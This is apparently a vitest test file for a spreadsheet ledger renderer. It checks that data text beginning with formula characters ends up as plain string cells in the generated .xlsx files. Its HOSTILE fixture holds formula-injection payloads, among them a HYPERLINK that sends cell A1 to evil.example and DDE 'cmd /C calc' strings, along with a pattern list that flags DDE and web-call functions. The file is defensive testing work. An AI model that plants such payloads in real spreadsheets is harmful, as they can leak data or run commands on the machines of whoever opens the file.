/**
 * Nothing leaks (a): text from the data that starts with = + - @ (what spreadsheet
 * applications read as a formula: "CSV/formula injection") is written to every ledger
 * workbook as a string cell, never as a formula. Read back from the .xlsx XML itself:
 * each such cell is a shared or inline string with no <f>, and the only formulas in the
 * package are the ledger's own (完成率, 序时进度, 状态 and the summary's counts).
 */
import { colLetter } from '../../pipeline/render/xlsx/spec.js';
import { col as columnOf } from '../../pipeline/render/xlsx/columns.js';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { withProgress } from '../../pipeline/ingest/index.js';
import { renderLedgers } from '../../pipeline/render/xlsx/index.js';
import { listZip, readEntry } from '../../pipeline/core/zip.js';
import { convert, loadView, soffice, withoutCachedResults } from '../support/xlsx.js';

const HOSTILE = {
  shortName: '=测试区',
  fgw: '=HYPERLINK("http://evil.example/?leak="&A1,"区发展改革委")',
  kjj: '+区科技局',
  ysj: '-区营商环境建设局',
  idle: '@区闲置局',
  area: "@SUM(1+1)*cmd|' /C calc'!A0",
  area2: '-2+3 城市建设',
  t01: "=cmd|' /C calc'!A0",
  t02: '+1+2 营商环境',
  t03: '-1+1 研发覆盖率',
  t04: '@SUM(A1:A9) 城市体检',
  leader: '=张三',
  note: '=HYPERLINK("http://evil.example","点此")',
  target: '=1+1 地区生产总值',
  targetText: '+与经济增长基本同步',
  progress: '=1+1',
  problems: '+cmd',
  nextSteps: '@下步',
  unit: '=亩',
} as const;

const q = (s: string) => JSON.stringify(s);

const DISTRICT = `id: leakqu
name: 测试市泄漏区
shortName: ${q(HOSTILE.shortName)}
city: 测试市
committee: 中共测试市泄漏区委员会
office: 中共测试市泄漏区委办公室
briefingName: 泄漏区委简报
units:
  - id: fgw
    name: ${q(HOSTILE.fgw)}
  - id: kjj
    name: ${q(HOSTILE.kjj)}
  - id: ysj
    name: ${q(HOSTILE.ysj)}
  - id: idle
    name: ${q(HOSTILE.idle)}
`;

const MEETING_ID = '2023-01-10-plenary';
const MEETING = `kind: plenary
title: 中共测试区委十二届四次全会
shortTitle: 区委十二届四次全会
date: 2023-01-10
source:
  seed: test.txt
targets:
  period: 2023年
  year: 2023
  items:
    - id: gdp
      name: ${q(HOSTILE.target)}
      measure: growth
      value: 7
      unit: "%"
    - id: income
      name: 城乡居民收入
      measure: growth
      text: ${q(HOSTILE.targetText)}
areas:
  - name: ${q(HOSTILE.area)}
    tasks:
      - id: t01
        task: ${q(HOSTILE.t01)}
        quantity: 1000
        unit: ${q(HOSTILE.unit)}
        lead: fgw
        co: [kjj]
        leader: ${q(HOSTILE.leader)}
        note: ${q(HOSTILE.note)}
      - id: t02
        task: ${q(HOSTILE.t02)}
        quantity: 5
        unit: 名
        direction: down
        lead: ysj
  - name: ${q(HOSTILE.area2)}
    tasks:
      - id: t03
        task: ${q(HOSTILE.t03)}
        quantity: 65
        unit: "%"
        lead: kjj
      - id: t04
        task: ${q(HOSTILE.t04)}
        lead: kjj
        co: [fgw, ysj]
briefing:
  issue: 1
  date: 2023-01-12
`;

const PROGRESS = `meeting: ${MEETING_ID}
district: leakqu
period: 2023-01
targets:
  gdp:
    progress: ${q(HOSTILE.progress)}
tasks:
  t01:
    actual: 100
    progress: ${q(HOSTILE.progress)}
    problems: ${q(HOSTILE.problems)}
    nextSteps: ${q(HOSTILE.nextSteps)}
    unit: fgw
  t04:
    progress: ${q(HOSTILE.t04)}
    unit: kjj
`;

interface XlsxCell {
  sheet: string;
  ref: string;
  type: string | undefined;
  formula: string | undefined;
  text: string | undefined;
}

const decode = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_m, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_m, n: string) => String.fromCodePoint(parseInt(n, 16)))
    .replace(/&amp;/g, '&');
const texts = (xml: string) => [...xml.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((m) => decode(m[1]!)).join('');

/** Every cell of every worksheet, straight from the package XML. */
function readCells(bytes: Uint8Array): { cells: XlsxCell[]; xml: Map<string, string> } {
  const xml = new Map(listZip(bytes).map((e) => [e.name, readEntry(bytes, e).toString('utf8')]));
  const shared = [...(xml.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => texts(m[1]!));
  const cells: XlsxCell[] = [];
  for (const [name, text] of xml) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
    for (const m of text.matchAll(/<c ([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = m[1]!;
      const body = m[2] ?? '';
      const ref = /\br="([^"]+)"/.exec(attrs)?.[1] ?? '?';
      const type = /\bt="([^"]+)"/.exec(attrs)?.[1];
      const f = /<f(?:\s[^>]*)?>([\s\S]*?)<\/f>|<f[^>]*\/>/.exec(body);
      const v = /<v>([\s\S]*?)<\/v>/.exec(body)?.[1];
      const text = type === 's' && v !== undefined ? shared[Number(v)] : type === 'inlineStr' ? texts(body) : v !== undefined ? decode(v) : undefined;
      cells.push({ sheet: name, ref, type, formula: f ? decode(f[1] ?? '') : undefined, text });
    }
  }
  return { cells, xml };
}

const INJECTION = /^[=+\-@]/;

describe('formula injection: data text is never a formula in a ledger workbook', () => {
  let workbooks: { name: string; data: Uint8Array }[];

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'jianbao-leak-'));
    const dataDir = join(dir, 'data');
    mkdirSync(join(dataDir, 'leakqu', 'meetings'), { recursive: true });
    mkdirSync(join(dataDir, 'leakqu', 'progress', MEETING_ID), { recursive: true });
    writeFileSync(join(dataDir, 'leakqu', 'district.yaml'), DISTRICT);
    writeFileSync(join(dataDir, 'leakqu', 'meetings', `${MEETING_ID}.yaml`), MEETING);
    writeFileSync(join(dataDir, 'leakqu', 'progress', MEETING_ID, '2023-01.yaml'), PROGRESS);
    const view = await withProgress(loadView(dataDir, 'leakqu', MEETING_ID), { dataDir, root: dir });
    workbooks = (await renderLedgers(view)).map((f) => ({ name: f.name, data: f.data as Uint8Array }));
  });

  it('renders the master ledger and one per unit', () => {
    expect(workbooks.map((w) => w.name).sort()).toEqual(['ledger-fgw.xlsx', 'ledger-kjj.xlsx', 'ledger-ysj.xlsx', 'ledger.xlsx']);
  });

  it('writes every hostile text as a string cell without <f>, in every workbook', () => {
    const hostile = new Set<string>(Object.values(HOSTILE));
    for (const wb of workbooks) {
      const { cells } = readCells(wb.data);
      const suspicious = cells.filter((c) => c.text !== undefined && INJECTION.test(c.text));
      expect(suspicious.length, wb.name).toBeGreaterThan(5);
      for (const c of suspicious) {
        expect(c.formula, `${wb.name} ${c.sheet} ${c.ref} ${c.text}`).toBeUndefined();
        expect(['s', 'inlineStr'], `${wb.name} ${c.sheet} ${c.ref} t=${c.type}`).toContain(c.type);
      }
      // the hostile texts are all there, verbatim (as a cell or inside a cell's text)
      const all = cells.map((c) => c.text ?? '').join('\n');
      for (const h of hostile) {
        if (wb.name !== 'ledger.xlsx' && [HOSTILE.target, HOSTILE.targetText].includes(h as never)) continue; // targets are in the master only
        if (wb.name === 'ledger-ysj.xlsx' && [HOSTILE.t01, HOSTILE.note, HOSTILE.leader, HOSTILE.unit, HOSTILE.t03, HOSTILE.progress, HOSTILE.problems, HOSTILE.nextSteps, HOSTILE.area, HOSTILE.kjj].includes(h as never)) continue;
        // kjj supports t01: its 配合事项 sheet asks for its own 配合情况, not the lead's words
        if (wb.name === 'ledger-kjj.xlsx' && [HOSTILE.t02, HOSTILE.progress, HOSTILE.problems, HOSTILE.nextSteps].includes(h as never)) continue;
        if (wb.name === 'ledger-fgw.xlsx' && [HOSTILE.t02, HOSTILE.t03].includes(h as never)) continue;
        if ([HOSTILE.idle].includes(h as never)) continue; // a unit without tasks appears nowhere
        expect(all.includes(h), `${wb.name} holds ${h}`).toBe(true);
      }
    }
  });

  it('has formulas only where the ledger computes, none holding data text', () => {
    for (const wb of workbooks) {
      const { cells, xml } = readCells(wb.data);
      const sheetNames = [...(xml.get('xl/workbook.xml') ?? '').matchAll(/<sheet [^>]*name="([^"]+)"/g)].map((m) => decode(m[1]!));
      for (const c of cells.filter((x) => x.formula !== undefined)) {
        const index = Number(/sheet(\d+)\.xml$/.exec(c.sheet)![1]) - 1;
        const sheet = sheetNames[index];
        const col = /^[A-Z]+/.exec(c.ref)![0];
        if (sheet === '主要预期目标' || sheet === '重点任务') expect((['rate', 'schedule', 'gap', 'status'] as const).map((k) => colLetter(columnOf(k))), `${wb.name} ${sheet}!${c.ref} =${c.formula}`).toContain(col);
        else expect(sheet, `${wb.name} ${sheet}!${c.ref} =${c.formula}`).toBe('汇总');
        expect(c.formula!, `${wb.name} ${sheet}!${c.ref}`).toMatch(/^(IF|COUNTA|COUNTIF|COUNTIFS|SUM)\(/);
        // a data cell is only ever compared as escaped plain text, never used as a bare criterion
        expect(c.formula!, `${wb.name} ${sheet}!${c.ref}`).not.toMatch(/COUNTIFS?\([^,]+,\$A\d+[,)]/);
        for (const h of Object.values(HOSTILE)) expect(c.formula!.includes(h.slice(1)), `${wb.name} ${sheet}!${c.ref} holds ${h}`).toBe(false);
        expect(c.formula!).not.toMatch(/HYPERLINK|cmd|WEBSERVICE|IMPORT|DDE/i);
      }
    }
  });

  it('keeps the hidden sheet and header/footer free of live content', () => {
    for (const wb of workbooks) {
      const { xml } = readCells(wb.data);
      for (const [name, text] of xml) {
        if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
        // no external links, no DDE, no OLE in what we write
        expect(text, `${wb.name} ${name}`).not.toMatch(/<hyperlink\b|<oleObject|ddeLink|externalLink/);
        for (const hf of text.matchAll(/<(oddHeader|oddFooter)>([\s\S]*?)<\/\1>/g)) expect(decode(hf[2]!)).not.toMatch(/^[=+\-@]/);
      }
      expect([...xml.keys()].filter((n) => /externalLink|vbaProject|oleObject|connections/i.test(n))).toEqual([]);
    }
  });
});

describe.skipIf(soffice() === null)('unit names are never criteria: LibreOffice recomputes the summary to our counts', () => {
  it('counts tasks per unit exactly, whatever wildcards or operators the unit names hold', async () => {
    const names = ['区发展局', '区*局', '区?局', '<>区发展局', '=区发展局', '~区发展局', '>0'];
    const dir = mkdtempSync(join(tmpdir(), 'jianbao-leak-lo-'));
    const dataDir = join(dir, 'data');
    mkdirSync(join(dataDir, 'critqu', 'meetings'), { recursive: true });
    writeFileSync(
      join(dataDir, 'critqu', 'district.yaml'),
      `id: critqu\nname: 测试市通配区\nshortName: 通配区\ncity: 测试市\ncommittee: 委员会\noffice: 办公室\nbriefingName: 简报\nunits:\n${names.map((n, i) => `  - id: u${i}\n    name: ${q(n)}\n`).join('')}`,
    );
    // unit i leads i + 1 tasks, so every count differs
    const tasks = names.flatMap((_n, i) => Array.from({ length: i + 1 }, (_x, k) => `      - id: t${i}-${k}\n        task: 任务${i}-${k}\n        lead: u${i}\n`)).join('');
    writeFileSync(
      join(dataDir, 'critqu', 'meetings', `${MEETING_ID}.yaml`),
      `kind: plenary\ntitle: 会议\ndate: 2023-01-10\nsource:\n  seed: x.txt\nareas:\n  - name: 板块\n    tasks:\n${tasks}briefing:\n  issue: 1\n  date: 2023-01-12\n`,
    );
    const view = await withProgress(loadView(dataDir, 'critqu', MEETING_ID), { dataDir, root: dir });
    const master = (await renderLedgers(view)).find((f) => f.name === 'ledger.xlsx')!;
    const bare = join(dir, 'bare.xlsx');
    writeFileSync(bare, withoutCachedResults(master.data as Uint8Array));
    await convert(bare, 'xlsx', join(dir, 'lo'));
    const ours = summaryCounts(master.data as Uint8Array);
    const theirs = summaryCounts(new Uint8Array(readFileSync(join(dir, 'lo', 'bare.xlsx'))));
    expect(ours.get('区*局')).toBe('2');
    expect(names.map((n) => theirs.get(n))).toEqual(names.map((n) => ours.get(n)));
    expect(names.map((n) => ours.get(n))).toEqual(names.map((_n, i) => String(i + 1)));
  });
});

/** Summary sheet: unit name (column A) → its 项数 (column B), from the XML. */
function summaryCounts(bytes: Uint8Array): Map<string, string> {
  const { cells, xml } = readCells(bytes);
  const sheetNames = [...(xml.get('xl/workbook.xml') ?? '').matchAll(/<sheet [^>]*name="([^"]+)"/g)].map((m) => decode(m[1]!));
  const summary = `xl/worksheets/sheet${sheetNames.indexOf('汇总') + 1}.xml`;
  const at = new Map(cells.filter((c) => c.sheet === summary).map((c) => [c.ref, c]));
  const out = new Map<string, string>();
  for (const c of at.values()) {
    const m = /^A(\d+)$/.exec(c.ref);
    if (m && Number(m[1]) > 6 && c.text) out.set(c.text, String(at.get(`B${m[1]}`)?.text ?? ''));
  }
  return out;
}
